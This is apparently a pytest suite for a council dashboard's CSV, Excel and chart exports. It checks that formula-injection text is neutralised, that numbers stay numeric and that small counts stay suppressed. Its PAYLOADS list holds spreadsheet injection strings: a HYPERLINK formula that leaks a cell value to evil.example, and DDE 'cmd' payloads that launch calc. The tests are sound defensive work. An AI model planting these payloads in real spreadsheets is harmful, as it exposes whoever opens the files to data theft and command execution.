"""Export files: CSV and Excel are safe to open (formula injection neutralised, numbers still numbers,
suppressed counts stay suppressed, the context written above the table), and chart images really
contain their text (vl-convert draws none with an unknown font)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from harrow_dash.charts import FONT, action_bar, rag_bar
from harrow_dash.export_files import (
    ILLUSTRATIVE_NOTE,
    chart_png,
    chart_spec,
    chart_svg,
    csv_bytes,
    ensure_chart_font,
    excel_bytes,
    export_context,
    export_frame,
    file_slug,
    protect_suppressed,
    readable_headers,
    text_renders,
)
from harrow_dash.filters import Filters
from harrow_dash.periods import parse_period
from harrow_dash.scorecard import RuleSettings
from harrow_dash.views import indicators_at

Q3 = parse_period("Q3 2023-24")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def payload_table() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "Ref": [f"PI-{i:02d}" for i in range(n)],
            "Commentary": PAYLOADS,
            "Actual": [-1.5, 2.0, -3.0, 4.25, 0.0, 1_234_567.0],
            "Count": list(range(-2, n - 2)),
        }
    )


def sheet_rows(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in ws.iter_rows()]


def header_index(rows: list[list[openpyxl.cell.cell.Cell]], first: str) -> int:
    for i, row in enumerate(rows):
        if row and row[0].value == first:
            return i
    raise AssertionError(f"no header row starting {first!r}")


# -- CSV ------------------------------------------------------------------------------------------


def test_csv_neutralises_every_formula_payload_and_keeps_numbers() -> None:
    text = csv_bytes(payload_table()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["Commentary"] for r in rows] == ["'" + p for p in PAYLOADS]
    for r in rows:
        assert not r["Commentary"].startswith(("=", "+", "-", "@", "\t", "\r"))
    # Numbers are written as numbers (a negative number is a number, not a formula).
    assert [float(r["Actual"]) for r in rows] == [-1.5, 2.0, -3.0, 4.25, 0.0, 1_234_567.0]
    assert [int(r["Count"]) for r in rows] == list(range(-2, len(PAYLOADS) - 2))


def test_csv_neutralises_dangerous_headers_too() -> None:
    table = pd.DataFrame({"=cmd()": ["x"], "ok": [1]})
    header = csv_bytes(table).decode("utf-8-sig").splitlines()[0]
    assert header.startswith("'=cmd()")


# -- Excel ----------------------------------------------------------------------------------------


def test_excel_neutralises_text_and_keeps_numbers_numeric() -> None:
    context = export_context("Indicators", Filters(period=Q3))
    rows = sheet_rows(excel_bytes(payload_table(), context))
    h = header_index(rows, "Ref")
    data = rows[h + 1 :]
    assert len(data) == len(PAYLOADS)
    for row, payload in zip(data, PAYLOADS, strict=True):
        ref, commentary, actual, count = row
        assert commentary.data_type == "s"
        assert commentary.value == "'" + payload
        assert actual.data_type == "n" and isinstance(actual.value, int | float)
        assert count.data_type == "n" and isinstance(count.value, int)
    assert [r[2].value for r in data] == [-1.5, 2, -3, 4.25, 0, 1_234_567]
    # No cell anywhere in the sheet is a formula.
    assert all(c.data_type != "f" for row in rows for c in row)


def test_excel_writes_council_quarter_filters_and_note_above_the_table() -> None:
    filters = Filters(period=Q3, priorities=(2,), directorates=("Place",))
    names = {1: "A council that puts residents first", 2: "A borough that is clean and safe"}
    context = export_context("Indicators for priority 2", filters, names, illustrative=True)
    rows = sheet_rows(excel_bytes(payload_table(), context, sheet_title="Indicators"))
    top = [row[0].value for row in rows[: len(context)]]
    assert top[0] == "Harrow Council: Indicators for priority 2"
    assert "Quarter: Q3 2023-24 (as at 31 December 2023)" in top
    assert "Priority: A borough that is clean and safe" in top
    assert "Directorate: Place" in top
    assert ILLUSTRATIVE_NOTE in top
    assert any("fewer than 5" in str(t) for t in top)
    h = header_index(rows, "Ref")
    assert h == len(context) + 1  # one blank row between the context and the table
    assert all(c.value is None for c in rows[h - 1])
    ws = openpyxl.load_workbook(io.BytesIO(excel_bytes(payload_table(), context))).active
    assert ws.freeze_panes == f"A{h + 2}"
    assert ws.auto_filter.ref.startswith(f"A{h + 1}:")
    assert all(c.font.bold for c in rows[h])


def test_excel_without_sample_has_no_illustrative_note() -> None:
    context = export_context("Indicators", Filters(period=Q3))
    assert ILLUSTRATIVE_NOTE not in context
    assert "All priorities, directorates and portfolios" in context


def test_excel_drops_control_characters_instead_of_failing() -> None:
    table = pd.DataFrame({"Commentary": ["bell\x07 and null\x00 here", "=\x1bformula"]})
    rows = sheet_rows(excel_bytes(table, ["Harrow Council: test"]))
    h = header_index(rows, "Commentary")
    assert rows[h + 1][0].value == "bell and null here"
    assert rows[h + 2][0].value == "'=formula"


def test_excel_gives_readable_headers_and_unit_number_formats() -> None:
    table = pd.DataFrame(
        {
            "ref": ["PI-01", "PI-10", "PI-14"],
            "actual": [66.5, 4_100_000.0, 2105.0],
            "unit": ["%", "£", "count"],
            "travel_prev_text": ["\u25b2 improving", "\u25bc worsening", "\u2013 no comparison"],
        }
    )
    rows = sheet_rows(excel_bytes(table, ["Harrow Council: test"]))
    h = header_index(rows, "Ref")
    assert [c.value for c in rows[h]] == ["Ref", "Actual", "Unit", "Since last quarter"]
    formats = [rows[h + i][1].number_format for i in (1, 2, 3)]
    assert formats == ['0.0"%"', '"£"#,##0', "#,##0"]
    assert [rows[h + i][1].value for i in (1, 2, 3)] == [66.5, 4_100_000, 2105]


def test_readable_headers_are_unique() -> None:
    headers = readable_headers(["actual", "actual_text", "rag", "rag_text", "Trend", "my_col"])
    assert len(set(headers)) == len(headers)
    assert headers[0] == "Actual" and headers[2] == "RAG" and headers[-1] == "My col"


# -- suppression ----------------------------------------------------------------------------------


def screen_table(inds: pd.DataFrame) -> pd.DataFrame:
    """The indicator table as the Priorities page shows it."""
    return pd.DataFrame(
        {
            "Ref": inds["ref"],
            "Indicator": inds["name"],
            "Actual": inds["actual_text"],
            "Target": inds["target_text"],
            "RAG": inds["rag_text"],
            "Since last quarter": inds["travel_prev_text"],
        }
    )


def test_suppressed_counts_stay_suppressed_in_csv_and_excel(sample_store) -> None:
    inds = indicators_at(sample_store, Filters(period=Q3), RuleSettings())
    hidden = inds[inds["suppressed"].astype(bool)]
    assert set(hidden["ref"]) >= {"PI-37", "PI-41"}  # the sample's small counts of people
    table = screen_table(inds)

    csv_rows = list(csv.DictReader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))
    by_ref = {r["Ref"]: r for r in csv_rows}
    for ref in hidden["ref"]:
        assert by_ref[ref]["Actual"] == "fewer than 5"

    rows = sheet_rows(excel_bytes(table, export_context("Indicators", Filters(period=Q3))))
    h = header_index(rows, "Ref")
    xl = {r[0].value: r for r in rows[h + 1 :]}
    for r in hidden.itertuples():
        cell = xl[r.ref][2]
        assert cell.value == "fewer than 5"
        assert cell.value != r.actual


def test_a_raw_actual_with_its_suppressed_flag_is_hidden_anyway(sample_store) -> None:
    """Belt and braces: a page that passed raw columns still cannot leak a small count."""
    inds = indicators_at(sample_store, Filters(period=Q3), RuleSettings())
    raw = inds[["ref", "actual", "unit", "suppressed"]]
    for data in (csv_bytes(raw).decode("utf-8-sig"),):
        rows = {r["Ref"]: r for r in csv.DictReader(io.StringIO(data))}
        assert rows["PI-37"]["Actual"] == "fewer than 5"
        assert rows["PI-41"]["Actual"] == "fewer than 5"
        assert rows["PI-01"]["Actual"] not in ("", "fewer than 5")
    sheet = sheet_rows(excel_bytes(raw, ["Harrow Council: raw"]))
    h = header_index(sheet, "Ref")
    xl = {r[0].value: r for r in sheet[h + 1 :]}
    assert xl["PI-37"][1].value == "fewer than 5"
    assert xl["PI-01"][1].data_type == "n"
    assert protect_suppressed(raw).loc[raw["ref"] == "PI-41", "actual"].item() == "fewer than 5"


def test_export_frame_turns_missing_values_into_empty_cells() -> None:
    frame = export_frame(pd.DataFrame({"a": [1.0, float("nan")], "b": ["x", None]}))
    assert frame.iloc[1].tolist() == [None, None]


# -- charts ---------------------------------------------------------------------------------------

COUNTS = {"Green": 24, "Amber": 6, "Red": 9, "Not rated": 6}


def svg_texts(svg: bytes) -> list[str]:
    return re.findall(r"<text[^>]*>([^<]*)</text>", svg.decode("utf-8"))


def test_chart_font_is_known_to_vl_convert() -> None:
    ensure_chart_font()
    assert text_renders(FONT)
    assert not text_renders("No Such Font Harrow")  # the failure the check exists for


def test_svg_contains_the_chart_text() -> None:
    svg = chart_svg(rag_bar(COUNTS, title="Performance indicators"))
    assert svg.startswith(b"<svg")
    texts = svg_texts(svg)
    assert "Performance indicators" in texts
    for n in ("24", "6", "9"):
        assert n in texts
    assert FONT in svg.decode("utf-8")


def test_png_really_draws_the_text() -> None:
    """vl-convert draws no text with a font it does not know, silently: compare with that."""
    chart = action_bar({"Complete": 7, "Green": 16, "Amber": 5, "Red": 3}, title="Actions")
    png = chart_png(chart, scale=1)
    assert png.startswith(b"\x89PNG")
    spec = chart_spec(chart)
    spec["config"]["font"] = "No Such Font Harrow"
    import vl_convert as vlc

    textless = bytes(vlc.vegalite_to_png(spec, scale=1))
    assert png != textless


def test_container_width_is_replaced_for_rendering() -> None:
    spec = chart_spec(rag_bar(COUNTS), width=500)
    assert spec["width"] == 500


@pytest.mark.parametrize(
    ("text", "slug"), [("Q3 2023-24", "Q3_2023-24"), ("a/b\\c:d", "a_b_c_d"), ("", "export")]
)
def test_file_slug(text: str, slug: str) -> None:
    assert file_slug(text) == slug


def test_csv_quotes_line_breaks_inside_a_field() -> None:
    """A bare carriage return inside a field must not start a new row (whose first cell could then
    be a formula): the field is quoted and reads back as one value."""
    table = pd.DataFrame({"Commentary": ['fine\r=HYPERLINK("x")', "two\nlines"], "Count": [1, 2]})
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"), newline="")))
    assert rows == [
        ["Commentary", "Count"],
        ['fine\r=HYPERLINK("x")', "1"],
        ["two\nlines", "2"],
    ]
